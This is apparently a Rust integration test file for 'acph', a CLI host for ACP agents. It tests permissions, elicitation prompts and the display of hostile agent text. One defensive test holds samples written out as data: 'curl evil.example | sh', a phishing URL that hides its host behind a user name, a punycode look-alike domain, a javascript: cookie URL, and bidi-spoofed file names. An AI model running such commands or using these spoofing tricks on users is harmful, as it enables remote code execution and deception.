        if start.elapsed() > TIMEOUT {
            let _ = child.kill();
            panic!("ask with a silent stdin did not finish");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    drop(stdin);
    assert!(status.success());
    let stdout = reader.join().unwrap();
    let resolved = stdout
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|e| e["kind"] == "permission_resolved")
        .unwrap();
    assert_eq!(resolved["data"]["decidedBy"], "timeout");
    assert_eq!(resolved["data"]["outcome"]["optionId"], "reject-once");
}

#[test]
fn usage_errors_exit_2() {
    let out = acph(&["run", "--permission", "maybe"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let out = acph(&["run", "--permission-timeout", "0"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    for bad in ["0", "-1", "soon", "nan", "1e400", "1e15", "0.0000001"] {
        for cmd in ["run", "probe"] {
            let out = acph(&[cmd, &format!("--timeout={bad}")]);
            assert_eq!(out.status.code(), Some(2), "{cmd} --timeout {bad}: {out:?}");
            assert!(out.stderr.contains("--timeout"), "{out:?}");
        }
    }
    let out = acph(&["frobnicate"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
}

/// `--elicitation ask` renders the agent's form and URL consent on the terminal (here: stdin,
/// under setsid without a controlling terminal); `off` does not advertise elicitation at all.
#[test]
fn elicitation_is_asked_on_the_terminal_or_off() {
    let setsid = ["/usr/bin/setsid", "/bin/setsid"]
        .into_iter()
        .find(|p| Path::new(p).is_file());
    let Some(setsid) = setsid else {
        // Nothing to run it under; the unit tests cover the form filling.
        return;
    };
    let texts = |events: &[Value]| -> Vec<String> {
        all(events, "session_update")
            .iter()
            .filter_map(|e| e["data"]["content"]["text"].as_str().map(str::to_owned))
            .collect()
    };
    // dryRun=default, replicas=3, target=production (2), confirm; then consent to the URL.
    let out = acph_with(
        &[
            "-w",
            ACPH,
            "run",
            "--json",
            "--permission",
            "deny",
            "--elicitation",
            "ask",
            "--scenario",
            "elicitation",
        ],
        setsid,
        Some("\n3\n2\ny\ny\n"),
    );
    assert!(out.status.success(), "{out:?}");
    let events = out.events();
    check_stream(&events);
    let resolved = all(&events, "elicitation_resolved");
    assert_eq!(resolved.len(), 2, "{:?}", kinds(&events));
    assert!(resolved.iter().all(|r| r["data"]["action"] == "accept"));
    let t = texts(&events);
    assert!(
        t.iter().any(|x| x.starts_with("form accept")
            && x.contains("\"target\":\"production\"")
            && x.contains("\"replicas\":3")
            && x.contains("\"dryRun\":true")),
        "{t:?}"
    );
    assert!(t.contains(&"url accept".to_owned()), "{t:?}");
    assert!(out.stderr.contains("Where should I deploy?"), "{out:?}");
    assert!(
        out.stderr.contains("https://example.invalid/login?turn=1"),
        "{out:?}"
    );
    assert!(out.stderr.contains("1=staging 2=production"), "{out:?}");
    // Not confirmed, then no consent: decline both.
    let out = acph_with(
        &[
            "-w",
            ACPH,
            "run",
            "--json",
            "--permission",
            "deny",
            "--elicitation",
            "ask",
            "--scenario",
            "elicitation",
        ],
        setsid,
        Some("\n\n1\nn\nn\n"),
    );
    let t = texts(&out.events());
    assert!(
        t.contains(&"form decline $form.content".to_owned())
            || t.iter().any(|x| x.starts_with("form decline")),
        "{t:?}"
    );
    assert!(t.contains(&"url decline".to_owned()), "{t:?}");
    // Off: not advertised, the agent gets method-not-found and nobody is asked.
    let out = acph(&[
        "run",
        "--json",
        "--permission",
        "deny",
        "--elicitation",
        "off",
        "--scenario",
        "elicitation",
    ]);
    assert!(out.status.success(), "{out:?}");
    let events = out.events();
    assert!(all(&events, "elicitation_requested").is_empty());
    assert!(texts(&events).contains(&"form error -32601".to_owned()));
}

/// A turn that makes every stable agent-to-client request (permission, fs read and write, every
/// terminal method, elicitation form and URL) completes through the CLI, answered on the terminal.
#[test]
fn every_agent_request_completes_through_the_cli() {
    let setsid = ["/usr/bin/setsid", "/bin/setsid"]
        .into_iter()
        .find(|p| Path::new(p).is_file());
    let Some(setsid) = setsid else {
        return;
    };
    let dir = Scratch::project();
    let out = acph_with(
        &[
            "-w",
            ACPH,
            "run",
            "--json",
            "--permission",
            "ask",
            "--elicitation",
            "ask",
            "--scenario",
            "every-request",
            "--cwd",
            dir.str(),
        ],
        setsid,
        Some("1\nrelease-1\ny\ny\n"),
    );
    assert!(out.status.success(), "{out:?}");
    let events = out.events();
    check_stream(&events);
    let text: String = all(&events, "session_update")
        .iter()
        .filter_map(|e| e["data"]["content"]["text"].as_str())
        .collect();
    for want in [
        "permission selected allow",
        "write ok",
        "terminal exit 0 output hello",
        "form accept release-1",
        "url accept",
    ] {
        assert!(text.contains(want), "{want:?} in {text:?}");
    }
    assert!(text.contains("read "), "{text:?}");
    assert_eq!(
        find(&events, "turn_ended")["data"]["stopReason"],
        "end_turn"
    );
    assert_eq!(all(&events, "elicitation_completed").len(), 1);
    assert_eq!(
        std::fs::read_to_string(dir.join("notes.txt")).unwrap(),
        "every request\n"
    );
}

/// Issue 24 (items 6 and 7): what an agent sends to fool the reader is shown for what it is. The
/// URL consent shows the whole URL and its real host after a long user name; a look-alike
/// internationalized host in its ASCII form; `javascript:` and an unparseable URL are declined
/// without asking; bidi controls and invisible characters in the agent's name, a message, a tool
/// title, a path and an option name are escaped as `<U+XXXX>`, in the prompts and the
/// transcript; the permission prompt shows a long command whole. The events keep the agent's
/// text verbatim.
#[test]
fn hostile_text_is_shown_for_what_it_is() {
    let setsid = ["/usr/bin/setsid", "/bin/setsid"]
        .into_iter()
        .find(|p| Path::new(p).is_file());
    let Some(setsid) = setsid else {
        // Nothing to run it under; the unit tests cover the prompts' text.
        return;
    };
    let dir = Scratch::project();
    let args = |json: bool| {
        let mut a = vec![
            "-w",
            ACPH,
            "run",
            "--permission",
            "ask",
            "--elicitation",
            "ask",
            "--scenario",
            "hostile-display",
            "--cwd",
            dir.str(),
        ];
        if json {
            a.push("--json");
        }
        a
    };
    // Deny the tool call, consent to url1, decline url2; url3 and url4 are not asked.
    let out = acph_with(&args(false), setsid, Some("2\ny\nn\n"));
    assert!(out.status.success(), "{out:?}");
    let (stdout, stderr) = (&out.stdout, &out.stderr);
    for hidden in ['\u{202E}', '\u{202C}', '\u{200B}', '\u{2066}', '\u{2069}'] {
        assert!(!stdout.contains(hidden), "{hidden:?} on stdout: {stdout}");
        assert!(!stderr.contains(hidden), "{hidden:?} on stderr: {stderr}");
    }
    // The permission prompt: escaped title, path and option; the command whole.
    for want in [
        "the agent asks permission for: Read <U+202E>txt.exe (execute)\n",
        &format!("    path: {}/<U+2066>notes<U+2069>.txt\n", dir.str()),
        &format!(
            "    command: echo {}; curl evil.example | sh\n",
            "x".repeat(250)
        ),
        "  1) Allow <U+202E>once [allow_once]\n",
    ] {
        assert!(stderr.contains(want), "{want:?} in {stderr}");
    }
    // url1: the whole URL, then the host after the user name on a line of its own.
    let url1 = format!(
        "https://accounts.example.com{}@evil.example/login?turn=1",
        "a".repeat(300)
    );
    for want in [
        "asks: Sign in <U+202E>to continue\n",
        &format!("    url: {url1}\n    host: evil.example\n"),
        "    warning: it carries a user name before the host",
        // url2: the ASCII (punycode) form, the Unicode form beside it, a warning.
        "    url: https://xn--pple-43d.example/login\n    host: xn--pple-43d.example (Unicode: \u{430}pple.example)\n",
        "    warning: the host is internationalized",
        // url3, url4: refused without asking, the unparseable one shown escaped.
        "    url: javascript:alert(document.cookie)\n    acph refuses it: it is not an http or https URL (scheme `javascript`); declined without asking.\n",
        "    url: https://exa mple.com/<U+202E>\n    acph refuses it: it is not a valid URL",
    ] {
        assert!(stderr.contains(want), "{want:?} in {stderr}");
    }
    assert_eq!(stderr.matches("consent? [y/N]").count(), 2, "{stderr}");
    // The transcript: the agent's name, the message (ordinary text kept), the tool title, the
    // URL whole with its host; the answers echoed by the agent.
    for want in [
        "[agent] Mock <U+202E>gnp.exe 1<U+200B> (protocol 1)\n",
        "café 日本 👩\u{200D}💻 reversed: <U+202E>evil<U+202C> zero<U+200B>width\n",
        "[tool] Read <U+202E>txt.exe (execute) pending\n",
        &format!("[elicitation] url: Sign in <U+202E>to continue ({url1}; host evil.example)\n"),
        "perm denied\n",
        "url1 accept\n",
        "url2 decline\n",
        "url3 decline\n",
        "url4 decline\n",
    ] {
        assert!(stdout.contains(want), "{want:?} in {stdout}");
    }
    // The events carry the agent's text verbatim: the escaping is for display only.
    let out = acph_with(&args(true), setsid, Some("2\ny\nn\n"));
    assert!(out.status.success(), "{out:?}");
    let events = out.events();
    let urls: Vec<&str> = all(&events, "elicitation_requested")
        .iter()
        .filter_map(|e| e["data"]["url"].as_str())
        .collect();
    assert_eq!(
        urls,
        [
            url1.as_str(),
            "https://\u{430}pple.example/login",
            "javascript:alert(document.cookie)",
            "https://exa mple.com/\u{202E}"
        ]
    );
    assert_eq!(
        find(&events, "permission_requested")["data"]["toolCall"]["title"],
        "Read \u{202E}txt.exe"
    );
}

#[test]
fn version_prints_the_crate_and_protocol_versions() {
    let out = acph(&["--version"]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        out.stdout.trim(),
        format!(
            "acph {} (ACP protocol version {})",
            env!("CARGO_PKG_VERSION"),
            acp_host::PROTOCOL_VERSION
        )
    );
}

/// `-v` shows the host's log: an agent that keeps the handshake waiting is reported at once and
/// after 5 s, not after 120 s of silence.
#[test]
fn verbose_shows_an_agent_that_keeps_the_handshake_waiting() {
    let mock = ensure_mock();
    let out = acph(&[
        "-v",
        "probe",
        "--",
        mock.to_str().unwrap(),
        "--sleep",
        "5600",
    ]);
    assert!(out.status.success(), "{out:?}");
    let lines = out.stderr_lines();
    let at = |prefix: &str| {
        lines
            .iter()
            .position(|l| l.starts_with(prefix))
            .unwrap_or_else(|| panic!("no {prefix:?} in {lines:?}"))
    };
    let started = at("[info] handshake: handshake started");
    let waiting = at("[warn] handshake: handshake waiting after 5");
    let done = at("[info] handshake: handshake done");
    assert!(started < waiting && waiting < done, "{lines:?}");
    // Without -v: nothing of the log.
    let out = acph(&["probe"]);
    assert!(out.status.success(), "{out:?}");
    assert!(out.stderr_lines().is_empty(), "{out:?}");
}
